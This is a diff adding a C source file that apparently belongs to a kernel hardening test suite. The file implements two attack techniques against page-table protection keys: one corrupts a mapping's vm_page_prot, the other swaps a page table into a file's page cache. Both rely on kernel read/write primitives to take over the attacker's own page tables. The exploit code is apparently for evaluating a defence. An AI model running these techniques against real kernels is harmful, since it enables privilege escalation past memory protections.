@@ -1,0 +1,134 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * What the kernel maps into user space: pointers and bits from which it makes
+ * last-level entries. The attacker has it map one of its own page tables.
+ *
+ * Judged, and left out:
+ *  - vm_pgoff: drivers make page frames of it when memory is mapped, as /dev/mem
+ *    does, and these kernels have no such driver. In a file mapping it selects
+ *    another page of the file.
+ *  - zero_pfn and pages that are mapped in order to be read: reading page tables
+ *    gives nothing to who can read all of memory.
+ *  - Pages in pipes and in buffers of read() and write(): the kernel copies
+ *    through the linear map, where page tables have their pkey.
+ */
+#include "attack.h"
+
+#include <sys/syscall.h>
+
+#define NR_RANGES	64
+#define FILE_PARTS	32	/* each as large as what a table maps */
+
+static int file_of(size_t size)
+{
+	int fd = syscall(SYS_memfd_create, "attack", 0);
+
+	if (fd < 0 || ftruncate(fd, size))
+		die("cannot make a file");
+	return fd;
+}
+
+static char *map_file(int fd, void *addr, size_t size, off_t offset, int flags)
+{
+	char *mem = mmap(addr, size, PROT_READ | PROT_WRITE, MAP_SHARED | flags, fd, offset);
+
+	if (mem == MAP_FAILED || madvise(mem, size, MADV_DONTFORK))
+		die("cannot map a file");
+	return mem;
+}
+
+/*
+ * The entry is made of the page's address or'ed with vm_page_prot: with bits of
+ * an address in there it is another page's. There is choice: any page of a file,
+ * and any table that can map it.
+ */
+static int page_prot(void)
+{
+	unsigned long nr = PMD_SIZE / PAGE_SIZE, total = FILE_PARTS * nr, j;
+	int fd = file_of(total * PAGE_SIZE);
+	char *ranges[NR_RANGES], *range, *at;
+	u64 *frames, table, prot, old;
+	struct kpkeys_attack_leak l = {};
+	unsigned int i;
+
+	/* First: memory is handed out from the top, where addresses have more bits. */
+	for (i = 0; i < NR_RANGES; i++) {
+		ranges[i] = table_range(i);
+		/* The table stays for its last page. */
+		ranges[i][(nr - 1) * PAGE_SIZE] = 1;
+		munmap(ranges[i], (nr - 1) * PAGE_SIZE);
+	}
+	frames = frames_of(map_file(fd, NULL, total * PAGE_SIZE, 0, MAP_POPULATE), total);
+	for (i = 0; i < NR_RANGES; i++) {
+		range = ranges[i];
+		table = (table_of(range, 1) - leak.linear_offset) / PAGE_SIZE;
+		for (j = 0; j < total; j++)
+			if (!(frames[j] & ~table) && j % nr < nr - 2)
+				goto found;
+	}
+	return not_possible("no page with an address that is part of a page table's");
+
+found:
+	map_file(fd, range, (nr - 1) * PAGE_SIZE, j / nr * PMD_SIZE, MAP_FIXED_NOREPLACE);
+	at = range + j % nr * PAGE_SIZE;
+	get_leak(&l, at);
+	prot = l.vma + lookup("vm_area_struct.vm_page_prot");
+	old = kernel_read(prot);
+	kernel_write(prot, old | table * PAGE_SIZE);
+	madvise(at, PAGE_SIZE, MADV_POPULATE_WRITE);
+	if (kernel_address(kernel_read(entry_slot(leak.pgd, at, 1))) != table_of(range, 1))
+		return GAINED_NOTHING;
+	steal_with_table((u64 *)at, range);
+
+	((volatile u64 *)at)[j % nr] = leaf(frames[j] * PAGE_SIZE + leak.linear_offset);
+	flush();
+	restore(prot, old);
+	return DONE;
+}
+
+/* A file's only page is one of the attacker's page tables. */
+static int page_cache(void)
+{
+	char *range = private_range(0), *at = range + 5 * PAGE_SIZE;
+	struct kpkeys_attack_leak l = {};
+	u64 mapping, slot, page, old_page, words[8];
+	unsigned int i;
+	int fd = file_of(PAGE_SIZE);
+
+	range[0] = 1;
+	if (pwrite(fd, "x", 1, 0) != 1)
+		die("cannot write to a file");
+	munmap(at, PAGE_SIZE);
+	map_file(fd, at, PAGE_SIZE, 0, MAP_FIXED_NOREPLACE);
+
+	get_leak(&l, at);
+	mapping = kernel_read(kernel_read(l.vma + lookup("vm_area_struct.vm_file")) +
+			      lookup("file.f_mapping"));
+	slot = mapping + lookup("address_space.i_pages.xa_head");
+	old_page = kernel_read(slot);
+	page = struct_page(table_of(range, 1));
+	for (i = 0; i < ARRAY_SIZE(words); i++)
+		words[i] = kernel_read(page + 8 * i);
+
+	kernel_write(page + lookup("page.mapping"), mapping);
+	kernel_write(page + lookup("page.flags"), kernel_read(page + lookup("page.flags")) |
+		     1ULL << lookup("PG_uptodate"));
+	kernel_write(slot, page);
+
+	madvise(at, PAGE_SIZE, MADV_POPULATE_WRITE);
+	if (kernel_address(kernel_read(entry_slot(leak.pgd, at, 1))) == table_of(range, 1)) {
+		steal_with_table((u64 *)at, range);
+		((volatile u64 *)at)[5] = empty_entry();
+		flush();
+	}
+	restore(slot, old_page);
+	for (i = 0; i < ARRAY_SIZE(words); i++)
+		restore(page + 8 * i, words[i]);
+	return DONE;
+}
+
+const struct attack mappings[] = {
+	{ "vm-page-prot", "vma->vm_page_prot: bits of an address", page_prot },
+	{ "page-cache", "a slot of the page cache, and a table's struct page", page_cache },
+	{ }
+};
